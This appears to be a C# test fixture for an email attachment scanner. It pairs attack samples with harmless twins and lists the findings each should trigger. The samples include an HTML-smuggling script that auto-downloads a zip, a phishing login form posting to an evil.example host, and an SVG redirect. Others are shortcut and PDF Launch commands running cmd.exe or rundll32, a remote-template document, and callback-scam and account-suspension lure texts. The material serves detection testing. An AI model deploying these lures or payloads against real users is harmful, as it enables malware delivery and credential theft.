using System.Collections.Immutable;
using System.Text;
using Deeplia.Tests.Mail.Attachments.Making;

namespace Deeplia.Tests.Golden;

/// <summary>The golden messages with attachments.</summary>
internal static class AttachedLetters
{
    private const string Stranger = "Accounts <accounts@harbour-parts.example>";
    private const string Colleague = "Daniel Okafor <daniel.okafor@atelier-nord.example>";
    private const string Anything = "application/octet-stream";
    private const string Word = "application/msword";
    private const string Zip = "application/zip";
    private const string Html = "text/html";
    private const string Pdf = "application/pdf";
    private const string Calendar = "text/calendar";

    /// <summary>Attacks, each with an honest twin.</summary>
    public static ImmutableArray<AttachedLetter> All { get; } = [.. Names(), .. Documents(), .. Archives(), .. Pages(), .. Papers(), .. Invitations()];

    private static IEnumerable<AttachedLetter> Names() =>
    [
        new("attachment/name-double", Stranger, "Facture 2026-114", "Bonjour,\nveuillez trouver votre facture ci-jointe.\nCordialement", "facture.pdf.exe", Anything,
            FileMaker.Program, "A program with the ending of a document before its own.")
        { Findings = ["harm.attachment.double-extension", "harm.attachment.program"], Threat = "malware" },
        new("attachment/name-image", Stranger, "Photos of the damage", "Hello,\nsee the photo of the damaged goods and call me back today.", "damage.jpg", "image/jpeg",
            FileMaker.Program, "A program that claims to be a picture.") { Findings = ["harm.attachment.type-mismatch"], Threat = "malware" },
        new("attachment/name-twin-dots", Colleague, "Report", "Hi Camille,\nthe report of March, version 2, with your corrections.\nDaniel", "report.2026.03.v2.pdf", Pdf,
            PdfMaker.Page(["Report of March", "Corrections of chapter two."]), "Many dots in a name are no disguise.")
        { Spared = ["harm.attachment.double-extension", "harm.attachment.type-mismatch"] },
        new("attachment/name-twin-patch", "Daniel Okafor <daniel.okafor@atelier-nord.example>", "[PATCH] run.js: close the file", "The handle stayed open.\n---\n run.js | 1 +",
            "0001-run.js.patch", "text/x-patch", "--- a/run.js\n+++ b/run.js\n+file.close();\n"u8.ToArray(), "A patch names a script and is none.")
        { Spared = ["harm.attachment.script", "harm.attachment.double-extension"] },
        new("attachment/program-shortcut", Stranger, "Purchase order 8812", "Dear Sir,\nkindly find our purchase order attached and confirm the price.", "order-8812.lnk", Anything,
            FileMaker.Shortcut(@"..\..\Windows\System32\cmd.exe", "/c powershell -w hidden calc"), "A shortcut that starts a command.")
        { Findings = ["harm.attachment.shortcut", "harm.attachment.script-calls"], Threat = "malware" },
        new("attachment/program-note", Stranger, "Shipping documents", "Hello,\nthe shipping documents are in the attached note. Double-click to view them.", "shipping.one", Anything,
            FileMaker.Note(FileMaker.Script), "A note that hides a script behind a picture of a button.") { Findings = ["harm.attachment.onenote-file"], Threat = "malware" },
        new("attachment/program-twin-note", Colleague, "Notes of Tuesday", "Camille,\nmy notes of the meeting on Tuesday with the plan as a PDF inside.\nDaniel", "notes.one", Anything,
            FileMaker.Note(PdfMaker.Page(["The plan"])), "A note that holds a document.") { Spared = ["harm.attachment.onenote-file"] },
        new("attachment/program-twin-script", Colleague, "The little converter", "Camille,\nhere is the little script that sums the columns, as promised yesterday.\nDaniel",
            "sum.py", "text/x-python", "import csv, sys\nprint(sum(1 for _ in csv.reader(sys.stdin)))\n"u8.ToArray(), "A script of programmers from a colleague.")
        { Spared = ["harm.attachment.script", "harm.attachment.script-calls"] },
    ];

    private static IEnumerable<AttachedLetter> Documents() =>
    [
        new("attachment/document-macro", Stranger, "Invoice 2026-0311", "Dear customer,\nyour invoice is attached. Enable editing to see the amount.", "invoice.doc", Word,
            OfficeMaker.OldWord(OfficeMaker.Dropper), "A macro that starts by itself and starts a program.")
        { Findings = ["harm.attachment.macro", "harm.attachment.autorun-macro", "harm.attachment.macro-calls"], Threat = "malware" },
        new("attachment/document-template", Stranger, "Contract for signature", "Dear Camille,\nplease read the contract and return it signed today.", "contract.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            OfficeMaker.NewWord(relations: OfficeMaker.Relation("attachedTemplate", "https://files.evil.example/t.dotm")), "A document that loads its template from elsewhere.")
        { Findings = ["harm.attachment.remote-template"], Threat = "malware" },
        new("attachment/document-twin-macro", Colleague, "Budget sheet", "Hi Camille,\nthe budget sheet with the button that adds up the rooms, as every year.\nDaniel", "budget.xlsm",
            "application/vnd.ms-excel.sheet.macroenabled.12", OfficeMaker.OldExcel(macro: OfficeMaker.Summer), "A macro behind a button from a known colleague.")
        { Spared = ["harm.attachment.autorun-macro", "harm.attachment.macro-calls"] },
        new("attachment/document-twin-minutes", "Marta Nowak <marta@garden-club.example>", "Minutes of the committee",
            "Dear all,\nplease find the minutes of Tuesday. See you next month.\nMarta",
            "minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            OfficeMaker.NewWord(relations: OfficeMaker.Relation("hyperlink", "https://garden-club.example/plan")
                + OfficeMaker.Relation("attachedTemplate", "file:///C:\\Users\\marta\\Club.dotx")), "Ordinary minutes with a link and a template at hand.")
        { Spared = ["harm.attachment.remote-template", "harm.attachment.macro"] },
    ];

    private static IEnumerable<AttachedLetter> Archives() =>
    [
        new("attachment/archive-script", Stranger, "Scan 4471", "Hello,\nthe scanned document is attached.", "scan.zip", Zip, OfficeMaker.Zip(("scan.js", FileMaker.Script)),
            "A script in an archive.") { Findings = ["harm.attachment.archive-executable", "harm.attachment.script-calls"], Threat = "malware" },
        new("attachment/archive-disk", Stranger, "Payment advice", "Dear customer,\nthe payment advice is attached for your records.", "advice.iso", Anything,
            FileMaker.Iso(("ADVICE.LNK", FileMaker.Shortcut("cmd.exe", "/c rundll32 a.dll,b")), ("A.DLL", FileMaker.Program)), "A disk image with a shortcut and a library.")
        { Findings = ["harm.attachment.disk-image", "harm.attachment.archive-executable"], Threat = "malware" },
        new("attachment/archive-locked", Stranger, "RE: open invoices", "Hello,\nthe documents you asked for are attached.\nArchive password: 7734\nRegards", "documents.zip", Zip,
            FileMaker.LockedZip("documents.js"), "A locked archive whose password stands in the letter.")
        { Findings = ["harm.attachment.archive-locked", "harm.attachment.archive-executable"], Threat = "malware" },
        new("attachment/archive-twin-payslip", "Service du personnel <paie@atelier-nord.example>", "Bulletin de paie de février",
            "Bonjour Camille,\nvotre bulletin de paie est joint. Le mot de passe vous a été remis sur papier, séparément ; il reste le même toute l'année.\nLe service du personnel",
            "bulletin.zip", Zip, FileMaker.LockedZip("bulletin.pdf"), "A locked archive whose password comes by another way.") { Spared = ["harm.attachment.archive-locked"] },
        new("attachment/archive-twin-project", Colleague, "Our web page", "Camille,\nthe whole project of the web page, with its scripts, to look at before Friday.\nDaniel", "page.zip", Zip,
            OfficeMaker.Zip([("page/index.html", "<html><h1>Atelier</h1></html>"u8.ToArray()), .. Enumerable.Range(0, 12).Select(i => ($"page/js/part{i}.js", "let a = 1;"u8.ToArray()))]),
            "A project of many files with scripts among them.") { Spared = ["harm.attachment.archive-executable", "harm.attachment.script"] },
    ];

    private static IEnumerable<AttachedLetter> Pages()
    {
        var packed = Convert.ToBase64String(OfficeMaker.Zip(("invoice.js", [.. FileMaker.Script, .. new byte[900]])));
        return
        [
            new("attachment/page-smuggling", Stranger, "Secure document", "Hello,\nopen the attached file to download your secure document.", "document.html", Html,
                Encoding.UTF8.GetBytes($"<html><script>var d=atob('{packed}');var b=new Blob([d]);"
                    + "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='document.zip';a.click()</script></html>"),
                "A page that builds an archive in the browser.") { Findings = ["harm.attachment.html-smuggling"], Threat = "malware" },
            new("attachment/page-form", Stranger, "Voicemail received", "You have a new voice message. Open the attachment and sign in to listen.", "voicemail.htm", Html,
                "<html><h2>Sign in</h2><form method=post action='https://collect.evil.example/p'><input name=u><input type=password name=p><button>Sign in</button></form></html>"u8.ToArray(),
                "A page that asks for a password and posts it elsewhere.") { Findings = ["harm.attachment.html-form"], Threat = "phishing" },
            new("attachment/page-drawing", Stranger, "New voice message", "You missed a call. Play the attached message.", "play.svg", "image/svg+xml",
                "<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href='https://collect.evil.example/v'</script></svg>"u8.ToArray(),
                "A drawing that opens a page.") { Findings = ["harm.attachment.svg-script"], Threat = "phishing" },
            new("attachment/page-twin-ticket", "Rail du Nord <tickets@rail-nord.example>", "Votre billet du 12 mars",
                "Bonjour,\nvotre billet est joint. Bon voyage avec Rail du Nord !", "billet.html", Html,
                "<html><h1>Lyon - Lille</h1><p>12 mars, voiture 4, place 61.</p><a href='https://www.rail-nord.example/b/1'>Votre voyage</a><script>window.print()</script></html>"u8.ToArray(),
                "A ticket as a page that prints itself and leads to its sender.") { Spared = ["harm.attachment.html-redirect", "harm.attachment.html-form",
                    "harm.attachment.html-smuggling"] },
            new("attachment/page-twin-archive", "Marta Nowak <marta@garden-club.example>", "Our newsletter of spring",
                "Dear all,\nas some of you could not open the page, here is our newsletter of spring as a file.\nMarta",
                "spring.html", Html, Encoding.UTF8.GetBytes($"<html><h1>Spring</h1><p>{string.Concat(Enumerable.Repeat("How tomatoes are sown on a window sill. ", 20))}</p>"
                    + "<script>document.getElementById('year').innerHTML=new Date().getFullYear()</script></html>"), "A newsletter kept as a file, with a harmless script.")
            { Spared = ["harm.attachment.html-hidden", "harm.attachment.html-smuggling"] },
        ];
    }

    private static IEnumerable<AttachedLetter> Papers() =>
    [
        new("attachment/paper-callback", "Billing Team <billing.team.4471@gmail.com>", "Your order 4471-88", "Thank you for your order. The invoice is attached.", "invoice-4471.pdf", Pdf,
            PdfMaker.Page(["INVOICE 4471-88", "Your subscription for device protection was renewed: 399.99 USD.", "The amount will be debited within 24 hours.",
                "If you did not authorize this payment, call us to cancel: +1 (888) 555-0143."]), "An invoice in a document that wants a call.")
        { Findings = ["harm.attachment.callback"], Threat = "callback", IsProved = false },
        new("attachment/paper-launch", Stranger, "Statement of account", "Dear customer,\nyour statement is attached.", "statement.pdf", Pdf,
            PdfMaker.Page(["Statement"], catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"), "A document that starts a program.")
        { Findings = ["harm.attachment.pdf-launch"], Threat = "malware" },
        new("attachment/paper-twin-invoice", "Buchhaltung <rechnung@werkzeug-lind.example>", "Rechnung 2026-88",
            "Guten Tag,\nanbei erhalten Sie die Rechnung 2026-88 zu Ihrer Bestellung vom 20. Februar.\nMit freundlichen Grüßen",
            "rechnung-2026-88.pdf", Pdf, PdfMaker.Page(["Rechnung 2026-88", "Gartengeraete, 120,00 EUR, zahlbar in 30 Tagen.", "Fragen? Telefon +49 30 23125 123",
                "Widerruf: Sie koennen die Bestellung binnen 14 Tagen widerrufen."]), "A real invoice with a number for questions.")
        { Spared = ["harm.attachment.callback", "harm.attachment.pdf-lure"] },
        new("attachment/paper-twin-form", Colleague, "Application for leave", "Camille,\nthe form for your leave, please fill it in and send it back by Friday.\nDaniel", "leave.pdf", Pdf,
            PdfMaker.Page(["Application for leave", "From:", "To:"], catalog: "/AcroForm << /Fields [] >> /AA << /WC << /S /JavaScript /JS (AFDate_Format\\(1\\)) >> >>"),
            "A form whose script checks a date.") { Spared = ["harm.attachment.pdf-action"] },
    ];

    private static IEnumerable<AttachedLetter> Invitations() =>
    [
        new("calendar/invite-callback", "Order Desk <order.desk.88@gmail.com>", "Invitation: order confirmed", "You have been invited to an event.", "invite.ics", Calendar,
            Invitation("order.desk.88@gmail.com", "Your order 88-4471 is confirmed",
                "Your antivirus subscription was renewed for 349.99 USD. If you did not authorize this charge call +1 (888) 555-0143 to cancel."),
            "An appointment that wants a call about a purchase.") { Findings = ["harm.calendar.callback"], Threat = "callback", IsProved = false },
        new("calendar/invite-alarm", "Mail Desk <desk@harbour-parts.example>", "Invitation: your mailbox", "You have been invited to an event.", "invite.ics", Calendar,
            Invitation("desk@harbour-parts.example", "Your account will be suspended today",
                "Unusual activity was found in your mailbox. Verify your account now: https://login.evil.example/v"),
            "An appointment that raises an alarm and leads elsewhere.") { Findings = ["harm.calendar.lure"], Threat = "phishing" },
        new("calendar/twin-colleague", Colleague, "Invitation: committee", "Committee, Thursday, room 4. Bring the plans, please.", "invite.ics", Calendar,
            Invitation("daniel.okafor@atelier-nord.example", "Committee",
                "Room 4. Or join on line: https://meet.google.com/abc-defg-hij"), "An invitation of a colleague with a meeting link.")
        { Spared = ["harm.calendar.stranger-link", "harm.calendar.organizer-elsewhere"] },
        new("calendar/twin-provider", "Jean Dupont via Calendar <calendar-notification@calendar-cloud.example>", "Invitation: committee (Thu 12 March, 18:00)",
            "Jean Dupont invites you: committee, Thursday 12 March 2026, 18:00, room 4.", "invite.ics", Calendar,
            Invitation("jean.dupont@atelier-nord.example", "Committee", "Details: https://www.calendar-cloud.example/event?id=1"), "A provider's robot sends in the organizer's name.")
        { Spared = ["harm.calendar.stranger-link", "harm.calendar.organizer-elsewhere"] },
        new("calendar/twin-webinar", "Garden School <events@garden-school.example>", "Your place at the webinar",
            "Your place at the webinar on pruning is booked. See you on Thursday!", "webinar.ics", Calendar,
            Invitation("events@garden-school.example", "Pruning roses",
                "Join here: https://live.garden-school.example/w/1 or by Zoom: https://us02web.zoom.us/j/1"), "A webinar of the sender's own house.")
        { Spared = ["harm.calendar.stranger-link", "harm.calendar.lure"] },
    ];

    private static byte[] Invitation(string organizer, string title, string text) => Encoding.UTF8.GetBytes(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Deeplia//Tests//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@tests\r\nDTSTAMP:20260304T080000Z\r\n"
        + $"DTSTART:20260312T170000Z\r\nORGANIZER:mailto:{organizer}\r\nATTENDEE:mailto:camille@owner.example\r\nSUMMARY:{title}\r\n"
        + $"DESCRIPTION:{text}\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nTRIGGER:-PT15M\r\nEND:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n");
}
